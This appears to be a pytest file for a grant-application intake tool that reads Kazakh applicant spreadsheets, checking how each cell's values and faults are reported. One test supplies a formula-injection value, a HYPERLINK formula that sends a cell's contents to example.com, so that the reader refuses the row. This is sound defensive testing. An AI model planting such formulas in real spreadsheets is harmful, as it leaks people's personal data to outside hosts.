"""Rows of an application file: values, faults with their cells, levels."""

import tomllib
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone

import pytest

from grantdesk.errors import Refused
from grantdesk.paths import shipped
from grantdesk.rules.intake import NewApplication
from grantdesk.rules.kinds import Sex
from grantdesk.rules.passed import Passed, Sieve, Why
from grantdesk.rules.places import places_from
from grantdesk.rules.row_reader import RowReader
from grantdesk.rules.rows import cell_of, read_rows
from tests.rules.grids import grid, mapped
from tests.rules.samples import call, coded, definition

PLACES = places_from(tomllib.loads(shipped("database", "reference", "regions.toml").read_text("utf-8")))
LOCAL = timezone(timedelta(hours=5))
PLAIN = definition(call=call(), region="35")

NAMES = ("received_at", "last_name", "first_name", "middle_name", "iin", "birth_date", "sex", "district")
ROW = ("04.10.2025 16:32", "Есімов", "Ислам", "Талғатұлы", "050801583475", "01.08.2005", "ер", "Балқаш")
VALUES = NewApplication(
    iin="050801583475",
    last_name="Есімов",
    first_name="Ислам",
    middle_name="Талғатұлы",
    birth_date=date(2005, 8, 1),
    sex=Sex.MALE,
    district="351600000",
    received_at=datetime(2025, 10, 4, 16, 32, tzinfo=LOCAL),
)


def put(**changes):
    """The names and the row with some cells changed or added."""
    whole = dict(zip(NAMES, ROW, strict=True)) | changes
    return tuple(whole), tuple(whole.values())


def reading(*rows, names=NAMES, to=PLAIN, **more):
    return read_rows(grid(names, *rows, **more), mapped(*names), to, PLACES)


def read(to=PLAIN, formulas=None, **changes):
    names, row = put(**changes)
    return reading(row, names=names, to=to, formulas=formulas).rows[0]


def faults(found):
    return [(fault.cell, fault.column, fault.rule, fault.level.value) for fault in found.faults]


def test_a_plain_row_becomes_checked_values():
    found = read()
    assert (found.row, found.values, found.faults, found.phones) == (2, VALUES, (), ())


def test_every_column_becomes_its_value():
    to = definition(
        call=call(),
        region="35",
        award={"mci": 100, "mode": "cap"},
        direction=[{"code": "it", "name": {"kk": "АТ", "ru": "ИТ"}}],
        category=coded("neet"),
        field=coded("summary", type="long", need="required") + coded("site", type="text") + coded("none", type="text"),
    )
    found = read(
        to,
        citizenship="ҚР",
        phone="8 707 000 82 37, 8 747 000 32 44",
        email="Islam@Example.net",
        locality=" Балқаш\u00a0",
        rural="Жоқ",
        address="Достық  көшесі, 11-үй",
        direction="АТ",
        project_title="Үйірме",
        requested_amount="1 690 000 ₸",
        category="neet",
        note="бір\nекі",
        summary=" Мақсаты. ",
        site="",
    )
    assert found.values == replace(
        VALUES,
        citizenship="KZ",
        phone="+77070008237",
        email="islam@example.net",
        locality="Балқаш",
        rural=False,
        address="Достық көшесі, 11-үй",
        direction="it",
        project_title="Үйірме",
        requested_amount=1690000,
        categories=("neet",),
        note="бір\nекі",
        fields={"summary": "Мақсаты."},
        phones=("+77470003244",),
    )
    assert found.phones == ("+77470003244",)
    assert faults(found) == [("J2", "phone", "phone_two", "notice")]


@pytest.mark.parametrize("name", ["iin", "last_name", "first_name", "birth_date", "sex", "district", "received_at"])
@pytest.mark.parametrize("blank", [None, "", "  ", "-", "—", "\u200b", "..."])
def test_a_blank_required_cell_is_an_error(name, blank):
    found = read(**{name: blank})
    cell = f"{'ABCDEFGH'[NAMES.index(name)]}2"
    assert (found.values, faults(found)) == (None, [(cell, name, "required", "error")])


def test_a_row_that_ends_early_lacks_its_last_cells():
    found = reading(ROW[:6]).rows[0]
    assert faults(found) == [("G2", "sex", "required", "error"), ("H2", "district", "required", "error")]


def test_what_the_programme_requires_is_required():
    to = definition(
        call=call(),
        award={"mci": 100, "mode": "cap"},
        direction=coded("it"),
        field=coded("summary", type="long", need="required"),
    )
    found = read(to, district="350000000", direction=None, requested_amount=None, summary="")
    assert [fault.rule for fault in found.faults] == ["unknown_district", "required", "required", "required"]


def test_a_missing_column_is_refused_before_any_row_is_read():
    with pytest.raises(Refused) as refused:
        reading(ROW[:-1], names=NAMES[:-1])
    assert refused.value.to("en") == (
        "list.xlsx (Sheet) has no column for: District or city. Add it, or say which column it is."
    )


def test_every_fault_of_a_row_is_told_in_the_order_of_its_columns():
    found = read(received_at="31.02.2025", last_name="ЕСІМОВ", iin="050801583476", sex="?", phone="12")
    assert faults(found) == [
        ("A2", "received_at", "date", "error"),
        ("B2", "last_name", "letter_case", "notice"),
        ("E2", "iin", "iin_check_digit", "error"),
        ("G2", "sex", "sex", "error"),
        ("I2", "phone", "phone", "warning"),
    ]


def test_warnings_are_kept_with_the_values():
    found = read(iin="930210489390", rural="кент", phone="12", email="x")
    assert found.values is not None
    assert found.values.warnings == ("iin_birth_date", "iin_seventh", "iin_sex", "rural", "phone", "email")
    assert (found.values.phone, found.values.email, found.values.rural) == ("12", "x", None)


def test_an_outspoken_none_is_nothing():
    found = read(phone="жоқ", email="нет", middle_name="жоқ")
    assert found.values == replace(VALUES, middle_name="")
    assert faults(found) == [("I2", "phone", "phone", "notice"), ("J2", "email", "email", "notice")]


def test_an_address_of_mail_with_cyrillic_letters_is_put_right():
    found = read(email="erbolat@exаmple.net")
    assert found.values == replace(VALUES, email="erbolat@example.net")
    assert faults(found) == [("I2", "email", "email_letters", "notice")]


def test_control_characters_are_taken_out_with_a_notice():
    found = read(project_title="\u200bЖас а\x7fқын\u202e_x0007_\x85")
    assert found.values == replace(VALUES, project_title="Жас ақын")
    assert faults(found) == [("I2", "project_title", "control_characters", "notice")]


def test_control_characters_are_taken_out_of_long_texts_too():
    found = read(note="бір\u202e\nекі")
    assert found.values == replace(VALUES, note="бір\nекі")
    assert faults(found) == [("I2", "note", "control_characters", "notice")]
    assert faults(read(note="бір\nекі")) == []


def test_a_name_that_looks_like_a_formula_refuses_the_row():
    found = read(first_name='=HYPERLINK("http://example.com/?q="&A1,"Дінмұхаммед")')
    assert (found.values, faults(found)) == (None, [("C2", "first_name", "formula_text", "error")])


def test_another_text_that_looks_like_a_formula_is_kept_as_text():
    found = read(project_title="=1+1")
    assert found.values == replace(VALUES, project_title="=1+1", warnings=("formula_text",))
    assert faults(found) == [("I2", "project_title", "formula_text", "warning")]


def test_a_value_that_a_formula_computed_is_told():
    found = read(formulas={(2, 4): "=UPPER(D9)", (2, 20): "=1"})
    assert found.values == VALUES
    assert faults(found) == [("D2", "middle_name", "formula_value", "notice")]
    assert found.faults[0].message.to("en") == "The value was computed by the formula =UPPER(D9)"


def test_a_mistake_of_the_spreadsheet_is_no_value():
    found = read(district="#Н/Д", address="#REF!")
    assert (found.values, faults(found)) == (
        None,
        [("H2", "district", "cell_error", "error"), ("I2", "address", "cell_error", "warning")],
    )
    assert read(address="#1 үй").values == replace(VALUES, address="#1 үй")


def test_one_column_of_whole_names_is_parted():
    names, row = put(full_name="СМАҒҰЛОВ Асылан Ерланұлы")
    names, row = names[:1] + names[4:], row[:1] + row[4:]
    found = reading(row, names=names).rows[0]
    assert found.values == replace(VALUES, last_name="Смағұлов", first_name="Асылан", middle_name="Ерланұлы")
    assert faults(found) == [("F2", "full_name", "letter_case", "notice")]


@pytest.mark.parametrize("name", ["Смағұлов", None, "=A1"])
def test_a_whole_name_that_lacks_a_part_is_an_error_of_its_cell(name):
    names, row = put(full_name=name)
    names, row = names[:1] + names[4:], row[:1] + row[4:]
    found = reading(row, names=names).rows[0]
    assert found.values is None
    assert {fault.cell for fault in found.faults} == {"F2"}


def test_names_of_their_own_columns_go_before_the_whole_name():
    assert read(full_name="Ахметов Асан Оразұлы", middle_name=None).values == replace(VALUES, middle_name="Оразұлы")


def test_zeros_lost_by_a_spreadsheet_are_put_back_with_a_notice():
    found = read(iin=50801583475)
    assert found.values == VALUES
    assert faults(found) == [("E2", "iin", "iin_leading_zero", "notice")]


@pytest.mark.parametrize("value", ["31.12.1899", "01.01.2026", "31.02.2003", 5])
def test_an_impossible_birth_date_is_an_error(value):
    found = read(birth_date=value)
    assert (found.values, [fault.rule for fault in found.faults]) == (None, ["date"])


def test_years_of_two_digits_mean_the_past():
    assert read(birth_date="01.08.05").values == VALUES


def test_a_column_that_writes_the_month_first_is_read_so():
    row = put(received_at="10/31/2025 16:00:00", birth_date="8/1/2005")[1]
    other = put(received_at="10/4/2025 16:32:00", birth_date="8/31/2005")[1]
    found = reading(row, other).rows
    assert found[0].values == replace(VALUES, received_at=datetime(2025, 10, 31, 16, tzinfo=LOCAL))
    assert found[1].values is not None
    assert found[1].values.received_at == datetime(2025, 10, 4, 16, 32, tzinfo=LOCAL)


def test_the_time_of_receipt_may_have_a_column_of_its_own():
    found = read(received_at="31.10.2025", received_time="18:01")
    assert found.values == replace(VALUES, received_at=datetime(2025, 10, 31, 18, 1, tzinfo=LOCAL))
    assert read(received_at="04.10.2025 16:32", received_time="18:01").values == VALUES
    assert faults(read(received_at="31.10.2025", received_time="кеш")) == [
        ("A2", "received_at", "time_missing", "warning"),
        ("I2", "received_time", "time", "error"),
    ]


def test_a_missing_time_of_receipt_matters_on_the_last_day():
    found = read(received_at=date(2025, 10, 30))
    assert found.values == replace(VALUES, received_at=datetime(2025, 10, 30, tzinfo=LOCAL))
    assert faults(found) == [("A2", "received_at", "time_missing", "notice")]
    assert faults(read(received_at="31.10.2025")) == [("A2", "received_at", "time_missing", "warning")]


def test_an_application_before_acceptance_began_is_looked_at():
    assert faults(read(received_at="01.10.2025 08:59")) == [("A2", "received_at", "early", "warning")]
    assert faults(read(received_at="01.10.2025 09:00")) == []
    assert faults(read(received_at="01.10.2025")) == [("A2", "received_at", "time_missing", "notice")]
    assert [fault.rule for fault in read(received_at="30.09.2025").faults] == ["time_missing", "early"]


def test_a_moment_with_a_zone_of_its_own_keeps_it():
    found = read(received_at="2025-10-04T11:32:00Z")
    assert found.values == VALUES
    assert found.values.received_at.tzinfo is UTC


def test_a_definition_without_a_call_reads_its_rows_too():
    found = read(definition(region="35"), received_at="30.09.2025")
    assert found.values == replace(VALUES, received_at=datetime(2025, 9, 30, tzinfo=LOCAL))
    assert faults(found) == [("A2", "received_at", "time_missing", "notice")]


def test_rows_that_are_no_applications_are_passed_over_and_named():
    names = (*NAMES, "requested_amount")
    table = [ROW, [None], ["Жиыны: 1", *[None] * 7, 100], names, ["Қабылдау аяқталды"]]
    found = reading(*table, names=names)
    assert [row.row for row in found.rows] == [2]
    assert found.passed == (Passed(4, Why.TOTAL), Passed(5, Why.HEADING), Passed(6, Why.REMARK))


def test_rows_above_the_data_are_not_read():
    table = grid(["Тізілім"], NAMES, ROW, [None, "Есімов"])
    assert [row.row for row in read_rows(table, mapped(*NAMES, header=2), PLAIN, PLACES).rows] == [3, 4]


def test_all_faults_of_a_file_are_one_list():
    found = reading(put(last_name="ЕСІМОВ")[1], put(sex=None)[1])
    assert [fault.cell for fault in found.faults] == ["B2", "G3"]


def test_the_cell_of_a_column():
    mapping = mapped("iin", "full_name", "last_name")
    assert cell_of(mapping, 7, "iin") == "A7"
    assert cell_of(mapping, 7, "first_name") == "B7"
    assert cell_of(mapping, 7, "last_name") == "C7"
    assert cell_of(mapping, 7, "note") == ""
    assert cell_of(mapped("iin"), 7, "last_name") == ""


def test_part_of_a_cell_that_is_no_telephone_is_kept_beside_one_that_is():
    found = read(phone="8 (727) 123, 8701 222 33 44")
    assert (found.values.phone, found.values.phones) == ("+77012223344", ("8 (727) 123",))


def glanced(names, row):
    sheet, mapping = grid(names, row), mapped(*names)
    return RowReader(sheet, mapping, PLAIN, PLACES).glance(sheet.rows[1])


def test_glance_reads_each_cell_by_itself():
    values, told = glanced(("last_name", "iin", "sex"), ("Есімов", "123", "ер"))
    assert (values["last_name"], values["iin"], values["sex"]) == ("Есімов", None, Sex.MALE)
    assert [(column, found.rule) for column, found in told] == [("iin", "iin_length")]


def test_rows_are_told_from_remarks_while_columns_are_still_missing():
    sheet = grid(("last_name", "first_name"), ("Есімов", "Ислам"), ("Барлығы",))
    sieve = Sieve(sheet, mapped("last_name", "first_name"))
    assert [sieve.why_none(row) for row in sheet.rows[1:]] == [None, Why.TOTAL]
